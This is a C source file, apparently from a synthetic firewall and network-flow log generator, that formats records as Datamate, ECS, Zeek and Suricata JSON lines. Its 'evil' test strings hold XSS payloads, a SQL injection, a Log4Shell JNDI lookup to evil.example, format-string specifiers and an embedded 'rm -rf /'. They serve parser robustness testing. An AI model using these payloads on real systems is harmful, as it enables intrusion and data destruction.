/* The four output schemas. Every formatter writes one JSON line into a caller buffer of
 * DM_GEN_MAX_LINE bytes: the longest line is bounded by construction (fixed keys, IPs of at
 * most 39 characters, 20-digit numbers and the fixed strings below), so the hot loop does
 * no per-byte bounds checks. Strings that come from tables are stored already
 * JSON-escaped. */
#include <string.h>

#include "gen_int.h"
#include "banned.h"

/* ---- small writers ---- */

static const char digits2[] = "00010203040506070809101112131415161718192021222324252627282930"
                              "31323334353637383940414243444546474849505152535455565758596061"
                              "62636465666768697071727374757677787980818283848586878889909192"
                              "93949596979899";

#define PUT(p, lit) (memcpy((p), (lit), sizeof(lit) - 1), (p) + sizeof(lit) - 1)

static char *put_mem(char *p, const char *s, size_t n)
{
    memcpy(p, s, n);
    return p + n;
}

static char *put_cstr(char *p, const char *s)
{
    return put_mem(p, s, strlen(s));
}

static char *put_u64(char *p, uint64_t v)
{
    char tmp[24];
    char *e = tmp + sizeof(tmp), *q = e;
    while (v >= 100) {
        unsigned d = (unsigned)(v % 100) * 2;
        v /= 100;
        *--q = digits2[d + 1];
        *--q = digits2[d];
    }
    if (v >= 10) {
        *--q = digits2[v * 2 + 1];
        *--q = digits2[v * 2];
    } else {
        *--q = (char)('0' + v);
    }
    return put_mem(p, q, (size_t)(e - q));
}

static char *put2(char *p, unsigned v)
{
    p[0] = digits2[v * 2];
    p[1] = digits2[v * 2 + 1];
    return p + 2;
}

/* Zero-padded fixed width. */
static char *put_fixed(char *p, uint64_t v, int width)
{
    for (int i = width - 1; i >= 0; i--) {
        p[i] = (char)('0' + v % 10);
        v /= 10;
    }
    return p + width;
}

/* "YYYY-MM-DDTHH:MM:SS" for µs since epoch (dates after 1970). Rows come in time order,
 * so a per-thread cache of the last second formatted makes this a 19-byte copy. */
static _Thread_local int64_t dt_sec = -1;
static _Thread_local char dt_text[20];

static char *put_datetime(char *p, int64_t us)
{
    int64_t s = us / 1000000;
    if (s == dt_sec) {
        memcpy(p, dt_text, 19);
        return p + 19;
    }
    int64_t days = s / 86400;
    unsigned sod = (unsigned)(s % 86400);
    /* Civil date from a day count (Howard Hinnant's algorithm, restated). */
    int64_t z = days + 719468;
    int64_t era = z / 146097;
    unsigned doe = (unsigned)(z - era * 146097);
    unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    unsigned mp = (5 * doy + 2) / 153;
    unsigned d = doy - (153 * mp + 2) / 5 + 1;
    unsigned m = mp < 10 ? mp + 3 : mp - 9;
    uint64_t y = (uint64_t)(yoe + era * 400) + (m <= 2);
    char *q = dt_text;
    q = put_fixed(q, y, 4);
    *q++ = '-';
    q = put2(q, m);
    *q++ = '-';
    q = put2(q, d);
    *q++ = 'T';
    q = put2(q, sod / 3600);
    *q++ = ':';
    q = put2(q, sod / 60 % 60);
    *q++ = ':';
    put2(q, sod % 60);
    dt_sec = s;
    memcpy(p, dt_text, 19);
    return p + 19;
}

/* Seconds with 6 decimals, e.g. Zeek's ts and duration. */
static char *put_secs6(char *p, int64_t us)
{
    p = put_u64(p, (uint64_t)(us / 1000000));
    *p++ = '.';
    return put_fixed(p, (uint64_t)(us % 1000000), 6);
}

static char *put_ip(char *p, const struct dm_gen *g, uint32_t h)
{
    /* Copy the whole fixed-size text field (the line buffer has the slack) and advance by
     * the real length: no variable-length memcpy in the hot path. */
    const struct dm__gen_host *x = &g->hosts[h];
    *p++ = '"';
    memcpy(p, x->txt, sizeof(x->txt));
    p += x->len;
    *p++ = '"';
    return p;
}

/* Suricata prints IPv6 fully expanded: 8 groups of 4 hex digits. */
static char *put_ip_expanded(char *p, const struct dm_gen *g, uint32_t h)
{
    static const char hex[] = "0123456789abcdef";
    if (!g->hosts[h].v6)
        return put_ip(p, g, h);
    const uint16_t *g6 = g->g6[h];
    *p++ = '"';
    for (int i = 0; i < 8; i++) {
        unsigned v = g6[i];
        if (i)
            *p++ = ':';
        p[0] = hex[v >> 12];
        p[1] = hex[(v >> 8) & 15];
        p[2] = hex[(v >> 4) & 15];
        p[3] = hex[v & 15];
        p += 4;
    }
    *p++ = '"';
    return p;
}

static char *put_bool(char *p, int v)
{
    return v ? PUT(p, "true") : PUT(p, "false");
}

/* ---- per-kind strings ---- */

static const struct {
    const char *device, *rule;
} kinds[DM__NKINDS] = {
    [DM__K_WEB] = {"fw-edge-01", "allow-web-out"},
    [DM__K_WEB_DENY] = {"fw-edge-01", "deny-url-category"},
    [DM__K_DNS_INT] = {"fw-core-01", "allow-dns-internal"},
    [DM__K_MAIL_CLIENT] = {"fw-core-01", "allow-mail-clients"},
    [DM__K_FILE] = {"fw-core-01", "allow-smb-fileserver"},
    [DM__K_APP] = {"fw-core-01", "allow-intranet"},
    [DM__K_DC] = {"fw-core-01", "allow-ad-services"},
    [DM__K_CDN] = {"fw-edge-01", "allow-web-out"},
    [DM__K_DNS_FWD] = {"fw-edge-01", "allow-dns-forwarders"},
    [DM__K_MAIL_OUT] = {"fw-edge-01", "allow-smtp-out"},
    [DM__K_MAIL_IN] = {"fw-edge-01", "allow-smtp-in"},
    [DM__K_DB_APP] = {"fw-core-01", "allow-app-db"},
    [DM__K_DMZ_WEB] = {"fw-dmz-01", "allow-dmz-web-in"},
    [DM__K_SCAN] = {"fw-dmz-01", "deny-inbound-default"},
    [DM__K_NTP] = {"fw-edge-01", "allow-ntp"},
    [DM__K_PING] = {"fw-core-01", "allow-icmp-monitoring"},
    [DM__K_ANY_OUT] = {"fw-edge-01", "legacy-any-any-out"},
    [DM__K_DNS_DIRECT] = {"fw-edge-01", "allow-dns-any"},
    [DM__K_BACKUP] = {"fw-edge-01", "allow-backup-offsite"},
    [DM__K_UPDATE] = {"fw-edge-01", "allow-wsus-sync"},
};

/* Attacker-controlled-looking strings, JSON-escaped: markup, quotes, backslashes, control
 * characters, U+2028/2029, NUL, non-ASCII UTF-8, template and format strings. */
static const char *const evil_messages[] = {
    "blocked url /search?q=<img src=x onerror=alert(1)>",
    "</script><script>alert(document.domain)</script>",
    "user \\\"admin\\\" said 'hi' via \\\\\\\\fileserver\\\\share",
    "\xc3\x9c" "berwachung: caf\xc3\xa9 \xe2\x98\x95 na\xc3\xafve \xe6\x97\xa5\xe6\x9c\xac"
    "\xe8\xaa\x9e \xf0\x9f\x98\x80 \xe2\x80\x94 ok",
    "line1\\nline2\\r\\n\\ttabbed \\u0001\\u001f end",
    "\\u2028\\u2029 separators and a nul \\u0000 byte",
    "'; DROP TABLE flows; -- ",
    "${jndi:ldap://evil.example/a} {{7*7}} javascript:alert(1)",
    "<svg/onload=alert('x')> &amp; &lt;b&gt; \\\"><iframe src=//x>",
    "%s%s%s%n %x %p",
};
#define NEVIL (sizeof(evil_messages) / sizeof(evil_messages[0]))

static const char *const evil_rules[] = {
    "allow \\\"legacy\\\" <any> \xe2\x9c\x93",
    "r\xc3\xa8gle-\xc3\xbc-<b>bold</b>",
    "deny\\\\\\\"; rm -rf / #",
};
#define NEVIL_RULES (sizeof(evil_rules) / sizeof(evil_rules[0]))

static const char *rule_of(const struct dm_gen_flow *f, uint64_t h)
{
    if (((h >> 20) & 0x1fff) == 0)
        return evil_rules[(h >> 40) % NEVIL_RULES];
    return kinds[f->kind].rule;
}

static const char *message_of(const struct dm_gen_flow *f, uint64_t h)
{
    if ((h & 0x7ff) == 0)
        return evil_messages[(h >> 33) % NEVIL];
    if (f->action == DM_GEN_DENY)
        return f->kind == DM__K_WEB_DENY ? "denied: url category not allowed"
                                         : "denied: no matching allow rule";
    if (f->action == DM_GEN_DROP)
        return "dropped: no matching allow rule";
    if (f->proto != 6)
        return "session end: aged-out";
    unsigned v = (unsigned)(h >> 11) & 15;
    return v < 11 ? "session end: tcp-fin" : v < 14 ? "session end: tcp-rst-from-client"
                                                    : "session end: aged-out";
}

static const char *proto_lower(int p)
{
    return p == 6 ? "tcp" : p == 17 ? "udp" : "icmp";
}

static const char *action_name(int a)
{
    return a == DM_GEN_ALLOW ? "allow" : a == DM_GEN_DENY ? "deny" : "drop";
}

/* ---- schemas ---- */

static char *fmt_datamate(const struct dm_gen *g, const struct dm_gen_flow *f, uint64_t h,
                          char *p)
{
    p = PUT(p, "{\"_@timestamp\":\"");
    p = put_datetime(p, f->ts_us);
    *p++ = '.';
    p = put_fixed(p, (uint64_t)(f->ts_us / 1000 % 1000), 3);
    p = PUT(p, "Z\",\"_SourceIP\":");
    p = put_ip(p, g, f->src);
    p = PUT(p, ",\"_SourcePort\":");
    p = put_u64(p, f->sport);
    p = PUT(p, ".0,\"_DestinationIP\":");
    p = put_ip(p, g, f->dst);
    p = PUT(p, ",\"_DestinationPort\":");
    p = put_u64(p, f->dport);
    p = PUT(p, ".0,\"_Protocol\":\"");
    p = put_cstr(p, proto_lower(f->proto));
    p = PUT(p, "\",\"_BytesSent\":");
    p = put_u64(p, f->bytes_sent);
    p = PUT(p, ".0,\"_BytesReceived\":");
    p = put_u64(p, f->bytes_recv);
    p = PUT(p, ".0,\"_Action\":\"");
    p = put_cstr(p, action_name(f->action));
    p = PUT(p, "\",\"_Device\":\"");
    p = put_cstr(p, kinds[f->kind].device);
    p = PUT(p, "\",\"_Rule\":\"");
    p = put_cstr(p, rule_of(f, h));
    p = PUT(p, "\",\"_Message\":\"");
    p = put_cstr(p, message_of(f, h));
    p = PUT(p, "\",\"_SessionID\":\"");
    static const char hex[] = "0123456789abcdef";
    uint64_t sid = dm_rng_mix(h);
    for (int i = 15; i >= 0; i--)
        p[i] = hex[sid & 15], sid >>= 4;
    p += 16;
    return PUT(p, "\"}\n");
}

static const char *direction(const struct dm_gen *g, const struct dm_gen_flow *f)
{
    int si = g->hosts[f->src].internal, di = g->hosts[f->dst].internal;
    return si ? (di ? "internal" : "outbound") : (di ? "inbound" : "external");
}

static char *fmt_ecs(const struct dm_gen *g, const struct dm_gen_flow *f, uint64_t h, char *p)
{
    int allow = f->action == DM_GEN_ALLOW;
    p = PUT(p, "{\"@timestamp\":\"");
    p = put_datetime(p, f->ts_us);
    *p++ = '.';
    p = put_fixed(p, (uint64_t)(f->ts_us / 1000 % 1000), 3);
    p = PUT(p, "Z\",\"ecs\":{\"version\":\"8.11.0\"},\"event\":{\"kind\":\"event\","
               "\"category\":[\"network\"],\"type\":[\"connection\",");
    p = allow ? PUT(p, "\"allowed\"]") : PUT(p, "\"denied\"]");
    p = PUT(p, ",\"action\":\"");
    p = put_cstr(p, action_name(f->action));
    p = allow ? PUT(p, "\",\"outcome\":\"success\"") : PUT(p, "\",\"outcome\":\"failure\"");
    p = PUT(p, ",\"duration\":");
    p = put_u64(p, (uint64_t)f->dur_us * 1000);
    p = PUT(p, "},\"source\":{\"ip\":");
    p = put_ip(p, g, f->src);
    if (f->proto != 1) {
        p = PUT(p, ",\"port\":");
        p = put_u64(p, f->sport);
    }
    p = PUT(p, ",\"bytes\":");
    p = put_u64(p, f->bytes_sent);
    p = PUT(p, ",\"packets\":");
    p = put_u64(p, f->pkts_sent);
    p = PUT(p, "},\"destination\":{\"ip\":");
    p = put_ip(p, g, f->dst);
    if (f->proto != 1) {
        p = PUT(p, ",\"port\":");
        p = put_u64(p, f->dport);
    }
    p = PUT(p, ",\"bytes\":");
    p = put_u64(p, f->bytes_recv);
    p = PUT(p, ",\"packets\":");
    p = put_u64(p, f->pkts_recv);
    p = PUT(p, "},\"network\":{\"transport\":\"");
    p = put_cstr(p, proto_lower(f->proto));
    p = PUT(p, "\",\"iana_number\":\"");
    p = put_u64(p, f->proto);
    p = g->hosts[f->src].v6 ? PUT(p, "\",\"type\":\"ipv6\"") : PUT(p, "\",\"type\":\"ipv4\"");
    p = PUT(p, ",\"direction\":\"");
    p = put_cstr(p, direction(g, f));
    p = PUT(p, "\",\"bytes\":");
    p = put_u64(p, f->bytes_sent + f->bytes_recv);
    p = PUT(p, ",\"packets\":");
    p = put_u64(p, (uint64_t)f->pkts_sent + f->pkts_recv);
    p = PUT(p, "},\"observer\":{\"name\":\"");
    p = put_cstr(p, kinds[f->kind].device);
    p = PUT(p, "\",\"type\":\"firewall\",\"vendor\":\"datamate-gen\"},\"rule\":{\"name\":\"");
    p = put_cstr(p, rule_of(f, h));
    p = PUT(p, "\"},\"message\":\"");
    p = put_cstr(p, message_of(f, h));
    return PUT(p, "\"}\n");
}

static const char *zeek_service(const struct dm_gen_flow *f)
{
    switch (f->dport) {
    case 443: case 993: case 8443: return f->proto == 6 ? "ssl" : NULL;
    case 80: case 8080: return f->proto == 6 ? "http" : NULL;
    case 53: return "dns";
    case 25: case 587: return "smtp";
    case 22: return "ssh";
    case 123: return "ntp";
    case 445: return "smb";
    case 88: return f->proto == 6 ? "krb_tcp" : "krb";
    case 389: return "ldap";
    }
    return NULL;
}

static char *fmt_zeek(const struct dm_gen *g, const struct dm_gen_flow *f, uint64_t h, char *p)
{
    static const char b62[] = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
    int v6 = g->hosts[f->src].v6;
    unsigned hdr = f->proto == 6 ? (v6 ? 60 : 40) : (v6 ? 48 : 28);
    p = PUT(p, "{\"ts\":");
    p = put_secs6(p, f->ts_us);
    p = PUT(p, ",\"uid\":\"C");
    uint64_t u = dm_rng_mix(h ^ 0x7a65656bull), u2 = dm_rng_mix(u);
    for (int i = 0; i < 17; i++) {
        uint64_t *src = i < 9 ? &u : &u2;
        *p++ = b62[*src % 62];
        *src /= 62;
    }
    p = PUT(p, "\",\"id.orig_h\":");
    p = put_ip(p, g, f->src);
    p = PUT(p, ",\"id.orig_p\":");
    p = put_u64(p, f->sport);
    p = PUT(p, ",\"id.resp_h\":");
    p = put_ip(p, g, f->dst);
    p = PUT(p, ",\"id.resp_p\":");
    p = put_u64(p, f->dport);
    p = PUT(p, ",\"proto\":\"");
    p = put_cstr(p, proto_lower(f->proto));
    *p++ = '"';
    const char *state, *history;
    int answered = f->action == DM_GEN_ALLOW;
    if (f->proto == 1) {
        state = "OTH", history = NULL;
    } else if (!answered) {
        int rej = f->proto == 6 && f->action == DM_GEN_DENY;
        state = rej ? "REJ" : "S0";
        history = f->proto == 6 ? (rej ? "Sr" : "S") : "D";
    } else if (f->proto == 17) {
        state = "SF", history = "Dd";
    } else if (((h >> 11) & 15) >= 14) {
        state = "RSTO", history = "ShADadR";
    } else {
        state = "SF", history = "ShADadFf";
    }
    if (answered) {
        const char *svc = zeek_service(f);
        if (svc) {
            p = PUT(p, ",\"service\":\"");
            p = put_cstr(p, svc);
            *p++ = '"';
        }
    }
    /* Zeek leaves duration and byte counts unset (absent) for unanswered attempts. */
    if (answered || state[0] == 'R') {
        p = PUT(p, ",\"duration\":");
        p = put_secs6(p, answered ? f->dur_us : 150);
        p = PUT(p, ",\"orig_bytes\":");
        p = put_u64(p, f->bytes_sent);
        p = PUT(p, ",\"resp_bytes\":");
        p = put_u64(p, f->bytes_recv);
    }
    p = PUT(p, ",\"conn_state\":\"");
    p = put_cstr(p, state);
    p = PUT(p, "\",\"local_orig\":");
    p = put_bool(p, g->hosts[f->src].internal);
    p = PUT(p, ",\"local_resp\":");
    p = put_bool(p, g->hosts[f->dst].internal);
    p = PUT(p, ",\"missed_bytes\":0");
    if (history) {
        p = PUT(p, ",\"history\":\"");
        p = put_cstr(p, history);
        *p++ = '"';
    }
    p = PUT(p, ",\"orig_pkts\":");
    p = put_u64(p, f->pkts_sent);
    p = PUT(p, ",\"orig_ip_bytes\":");
    p = put_u64(p, f->bytes_sent + (uint64_t)f->pkts_sent * hdr);
    p = PUT(p, ",\"resp_pkts\":");
    p = put_u64(p, f->pkts_recv);
    p = PUT(p, ",\"resp_ip_bytes\":");
    p = put_u64(p, f->bytes_recv + (uint64_t)f->pkts_recv * hdr);
    return PUT(p, "}\n");
}

static char *put_suri_time(char *p, int64_t us)
{
    p = put_datetime(p, us);
    *p++ = '.';
    p = put_fixed(p, (uint64_t)(us % 1000000), 6);
    return PUT(p, "+0000");
}

static const char *suri_app_proto(const struct dm_gen_flow *f)
{
    switch (f->dport) {
    case 443: case 993: case 8443: return f->proto == 6 ? "tls" : "failed";
    case 80: case 8080: return "http";
    case 53: return "dns";
    case 25: case 587: return "smtp";
    case 22: return "ssh";
    case 123: return "ntp";
    case 445: return "smb";
    case 88: return "krb5";
    case 389: return "ldap";
    }
    return "failed";
}

static char *fmt_suricata(const struct dm_gen *g, const struct dm_gen_flow *f, uint64_t h,
                          char *p)
{
    int64_t end = f->ts_us + f->dur_us;
    int answered = f->action == DM_GEN_ALLOW;
    p = PUT(p, "{\"timestamp\":\"");
    p = put_suri_time(p, end);
    p = PUT(p, "\",\"flow_id\":");
    p = put_u64(p, dm_rng_mix(h ^ 0x73757269ull) & ((1ull << 51) - 1));
    p = PUT(p, ",\"in_iface\":\"eth0\",\"event_type\":\"flow\",\"src_ip\":");
    p = put_ip_expanded(p, g, f->src);
    if (f->proto != 1) {
        p = PUT(p, ",\"src_port\":");
        p = put_u64(p, f->sport);
    }
    p = PUT(p, ",\"dest_ip\":");
    p = put_ip_expanded(p, g, f->dst);
    if (f->proto != 1) {
        p = PUT(p, ",\"dest_port\":");
        p = put_u64(p, f->dport);
    }
    p = f->proto == 6 ? PUT(p, ",\"proto\":\"TCP\"")
                      : f->proto == 17 ? PUT(p, ",\"proto\":\"UDP\"") : PUT(p, ",\"proto\":\"ICMP\"");
    if (f->proto == 1) {
        p = PUT(p, ",\"icmp_type\":");
        p = put_u64(p, f->sport);
        p = PUT(p, ",\"icmp_code\":");
        p = put_u64(p, f->dport);
    } else if (answered) {
        p = PUT(p, ",\"app_proto\":\"");
        p = put_cstr(p, suri_app_proto(f));
        *p++ = '"';
    }
    p = PUT(p, ",\"flow\":{\"pkts_toserver\":");
    p = put_u64(p, f->pkts_sent);
    p = PUT(p, ",\"pkts_toclient\":");
    p = put_u64(p, f->pkts_recv);
    p = PUT(p, ",\"bytes_toserver\":");
    p = put_u64(p, f->bytes_sent);
    p = PUT(p, ",\"bytes_toclient\":");
    p = put_u64(p, f->bytes_recv);
    p = PUT(p, ",\"start\":\"");
    p = put_suri_time(p, f->ts_us);
    p = PUT(p, "\",\"end\":\"");
    p = put_suri_time(p, end);
    p = PUT(p, "\",\"age\":");
    p = put_u64(p, (uint64_t)(f->dur_us / 1000000));
    const char *state = f->proto == 6 ? (answered || f->action == DM_GEN_DENY ? "closed" : "new")
                                      : (answered ? "established" : "new");
    p = PUT(p, ",\"state\":\"");
    p = put_cstr(p, state);
    p = PUT(p, "\",\"reason\":\"timeout\",\"alerted\":false}");
    if (f->proto == 6) {
        if (answered)
            p = PUT(p, ",\"tcp\":{\"tcp_flags\":\"1b\",\"tcp_flags_ts\":\"1b\",\"tcp_flags_tc\":"
                       "\"1b\",\"syn\":true,\"fin\":true,\"psh\":true,\"ack\":true,\"state\":"
                       "\"closed\"}");
        else if (f->action == DM_GEN_DENY)
            p = PUT(p, ",\"tcp\":{\"tcp_flags\":\"16\",\"tcp_flags_ts\":\"02\",\"tcp_flags_tc\":"
                       "\"14\",\"syn\":true,\"rst\":true,\"ack\":true,\"state\":\"closed\"}");
        else
            p = PUT(p, ",\"tcp\":{\"tcp_flags\":\"02\",\"tcp_flags_ts\":\"02\",\"tcp_flags_tc\":"
                       "\"00\",\"syn\":true,\"state\":\"syn_sent\"}");
    }
    return PUT(p, "}\n");
}

size_t dm_gen_format(const struct dm_gen *g, const struct dm_gen_flow *f, uint64_t row,
                     char *out)
{
    uint64_t h = dm_rng_mix(g->seed_mix + row * 0x9e3779b97f4a7c15ull);
    char *p = out;
    switch (g->opt.schema) {
    case DM_GEN_DATAMATE: p = fmt_datamate(g, f, h, out); break;
    case DM_GEN_ECS: p = fmt_ecs(g, f, h, out); break;
    case DM_GEN_ZEEK: p = fmt_zeek(g, f, h, out); break;
    case DM_GEN_SURICATA: p = fmt_suricata(g, f, h, out); break;
    }
    return (size_t)(p - out);
}
